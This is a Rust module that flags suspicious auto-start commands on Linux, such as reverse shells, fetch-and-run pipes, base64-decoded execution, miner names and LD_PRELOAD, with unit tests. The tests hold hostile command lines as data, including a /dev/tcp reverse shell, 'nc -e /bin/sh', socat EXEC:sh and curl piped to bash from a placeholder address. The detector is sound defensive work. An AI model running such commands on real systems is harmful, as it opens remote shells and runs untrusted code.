//! What is suspicious about a command that starts by itself.
//!
//! Signs of malware on Linux as they are described in MITRE ATT&CK (T1053, T1059, T1543, T1546, T1574): where the program lies
//! and what the line does. A command never leaves this file: only the name of a reason does. It is *not* proof, and what
//! isn't suspicious here may still be bad.

/// Folders anybody may write.
const SHARED: [&str; 5] = ["/dev/shm/", "/run/user/", "/tmp/", "/var/spool/cron/atjobs/", "/var/tmp/"];
/// Hidden folders of a home that programs are rightly started from.
const USUAL: [&str; 29] = [
    ".asdf",
    ".bin",
    ".bun",
    ".cabal",
    ".cargo",
    ".config",
    ".deno",
    ".dotnet",
    ".dropbox-dist",
    ".gem",
    ".ghcup",
    ".go",
    ".gradle",
    ".krew",
    ".linuxbrew",
    ".local",
    ".nix-profile",
    ".npm",
    ".nvm",
    ".opam",
    ".pyenv",
    ".rbenv",
    ".rvm",
    ".scripts",
    ".sdkman",
    ".steam",
    ".var",
    ".volta",
    ".wine",
];
/// Where homes are: a hidden file right in one is somebody's setting.
const HOMES: [&str; 4] = ["$HOME", "/home/", "/root/", "~"];
/// What fetches something.
const FETCH: [&str; 4] = ["curl", "fetch", "lynx", "wget"];
/// What runs what it is given.
const RUN: [&str; 10] = ["bash", "dash", "ksh", "node", "perl", "php", "python", "python3", "sh", "zsh"];
/// Names of known miners and backdoors (the makers' and analysts' own).
const KNOWN: [&str; 12] = [
    "cnrig",
    "kdevtmpfsi",
    "kinsing",
    "kthreaddi",
    "minerd",
    "pty-shell",
    "stratum+ssl:",
    "stratum+tcp:",
    "sustes",
    "watchbog",
    "xmr-stak",
    "xmrig",
];

/// A reason, as it is told.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Reason {
    /// A program in a folder that anybody may write.
    Shared,
    /// A program in a hidden folder.
    Hidden,
    /// Fetches something from the network and runs it.
    Fetches,
    /// Runs something that is written so that nobody can read it.
    Scrambled,
    /// Opens a way in for somebody elsewhere.
    OpensWay,
    /// Known name of bad software.
    Known,
    /// Slips into other programs.
    SlipsIn,
}

impl Reason {
    /// As tables show it.
    pub(super) fn word(self) -> &'static str {
        match self {
            Self::Shared => "shared folder",
            Self::Hidden => "hidden folder",
            Self::Fetches => "fetches and runs",
            Self::Scrambled => "scrambled",
            Self::OpensWay => "opens a way in",
            Self::Known => "known bad name",
            Self::SlipsIn => "slips into programs",
        }
    }
}

/// The worst reason to look at that command.
pub(super) fn reason(command: &str) -> Option<Reason> {
    let command = command.trim();
    if command.is_empty() || command.starts_with('#') {
        return None;
    }
    let lower = command.to_ascii_lowercase();
    let runs = pipes_into_run(&lower);
    if KNOWN.iter().any(|name| lower.contains(name)) {
        Some(Reason::Known)
    } else if opens_way(&lower) {
        Some(Reason::OpensWay)
    } else if fetches(&lower) && (runs || substitutes(&lower)) {
        Some(Reason::Fetches)
    } else if unscrambles(&lower) && (runs || lower.contains("eval")) {
        Some(Reason::Scrambled)
    } else if command.contains("LD_PRELOAD=") || command.contains("LD_AUDIT=") {
        Some(Reason::SlipsIn)
    } else {
        program(command).and_then(place)
    }
}

/// Why the place of a program is suspicious.
pub(super) fn place(program: &str) -> Option<Reason> {
    let hidden = |part: &str| part.starts_with('.') && !matches!(part, "." | "..") && !USUAL.contains(&part);
    let (folder, name) = program.rsplit_once('/').unwrap_or(("", program));
    let of_somebody = HOMES.iter().any(|home| program.starts_with(home));
    if SHARED.iter().any(|folder| program.starts_with(folder)) {
        Some(Reason::Shared)
    } else if folder.split('/').any(hidden) || (program.starts_with('/') && !of_somebody && hidden(name)) {
        Some(Reason::Hidden)
    } else {
        None
    }
}

/// The program a command starts, past settings of the environment and what only starts others.
pub(super) fn program(command: &str) -> Option<&str> {
    let usual = |word: &str| word.trim_start_matches(['-', '@', '+', '!', ':', '"', '\'', '(', '{']).len();
    command
        .split_whitespace()
        .map(|word| word.get(word.len() - usual(word)..).unwrap_or(word).trim_end_matches(['"', '\'', ';', ')', '&']))
        .find(|word| {
            let name = word.rsplit('/').next().unwrap_or(word);
            let option = word.is_empty() || (word.contains('=') && !word.starts_with('/'));
            let starts_others = RUN.contains(&name)
                || matches!(
                    name,
                    "env" | "exec" | "nice" | "nohup" | "setsid" | "sudo" | "source" | "." | "timeout" | "c" | "lc"
                );
            !option && !starts_others
        })
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '(' | ')' | '`' | '"' | '\'' | '<' | '$'))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .filter(|word| !word.is_empty())
}

fn fetches(text: &str) -> bool {
    words(text).any(|word| FETCH.contains(&word))
}

/// Whether something is piped into a program that runs it.
fn pipes_into_run(text: &str) -> bool {
    text.split('|').skip(1).any(|part| {
        let mut words = words(part).filter(|word| !matches!(*word, "sudo" | "env" | "nohup" | "exec"));
        words.next().is_some_and(|word| RUN.contains(&word))
    })
}

/// Whether what something says is run: `sh -c "$(…)"`, `bash <(…)`, `eval …`.
fn substitutes(text: &str) -> bool {
    let run = words(text).any(|word| RUN.contains(&word) || word == "eval" || word == "source");
    run && ["$(", "<(", "`"].iter().any(|sign| text.contains(sign))
}

fn unscrambles(text: &str) -> bool {
    let base64 =
        text.contains("base64") && [" -d", " --decode", " -di", "b64decode"].iter().any(|option| text.contains(option));
    base64
        || text.contains("b64decode")
        || text.contains("xxd -r")
        || (text.contains("openssl enc") && text.contains(" -d"))
}

fn opens_way(text: &str) -> bool {
    let netcat = words(text).any(|word| matches!(word, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"));
    text.contains("/dev/tcp/")
        || text.contains("/dev/udp/")
        || (netcat
            && [" -e", " -c ", " -le", "mkfifo", "--exec", "--sh-exec"].iter().any(|option| text.contains(option)))
        || (text.contains("socat") && text.contains("exec:"))
        || (text.contains("socket") && text.contains("subprocess"))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_malware_does_is_seen_and_what_people_do_is_not() {
        for (command, expected) in [
            ("/tmp/.x/update", Some(Reason::Shared)),
            ("sh -c /var/tmp/run.sh", Some(Reason::Shared)),
            ("-/dev/shm/a", Some(Reason::Shared)),
            ("/usr/lib/.cache/kworker", Some(Reason::Hidden)),
            ("/home/ana/.x/agent --quiet", Some(Reason::Hidden)),
            ("/usr/bin/.sshd", Some(Reason::Hidden)),
            ("curl -fsSL http://192.0.2.9/i.sh | bash", Some(Reason::Fetches)),
            ("wget -qO- http://192.0.2.9/i | sudo sh", Some(Reason::Fetches)),
            ("bash -c \"$(curl -s http://192.0.2.9/i)\"", Some(Reason::Fetches)),
            ("bash <(curl -s http://192.0.2.9/i)", Some(Reason::Fetches)),
            ("echo aGVsbG8= | base64 -d | sh", Some(Reason::Scrambled)),
            ("eval $(echo aGVsbG8= | base64 --decode)", Some(Reason::Scrambled)),
            ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", Some(Reason::OpensWay)),
            ("nc -e /bin/sh 192.0.2.9 4444", Some(Reason::OpensWay)),
            ("socat tcp:192.0.2.9:1 EXEC:sh", Some(Reason::OpensWay)),
            ("/opt/x/xmrig -o pool", Some(Reason::Known)),
            ("env LD_PRELOAD=/usr/lib/x.so app", Some(Reason::SlipsIn)),
            ("# curl http://x | sh", None),
            ("/usr/bin/curl -o /var/lib/x/list https://example.net/list", None),
            ("/home/ana/.local/bin/backup", None),
            ("/home/ana/.config/sway/start.sh", None),
            ("/home/ana/.var/app/x/run", None),
            ("cd / && run-parts --report /etc/cron.hourly", None),
            ("/usr/sbin/logrotate /etc/logrotate.conf", None),
            ("eval \"$(dircolors -b)\"", None),
            ("source ~/.bashrc", None),
            ("/home/ana/.xinitrc", None),
            ("echo x | base64 -d > /etc/key", None),
            ("", None),
        ] {
            assert_eq!(reason(command), expected, "{command}");
        }
    }

    #[test]
    fn the_program_is_found_behind_what_starts_it() {
        for (command, expected) in [
            ("-/usr/bin/x -a", Some("/usr/bin/x")),
            ("env A=1 nice /usr/bin/x", Some("/usr/bin/x")),
            ("sh -c \"/usr/bin/x; y\"", Some("/usr/bin/x")),
            ("PATH=/bin", None),
        ] {
            assert_eq!(program(command), expected, "{command}");
        }
    }

    proptest! {
        #[test]
        fn garbage_never_panics(command in "((curl|sh|base64|nc|\\||\\$\\(|-|/tmp/|\\.)? ?.?)*|.*") {
            let _any = (reason(&command), place(&command), program(&command));
        }
    }
}
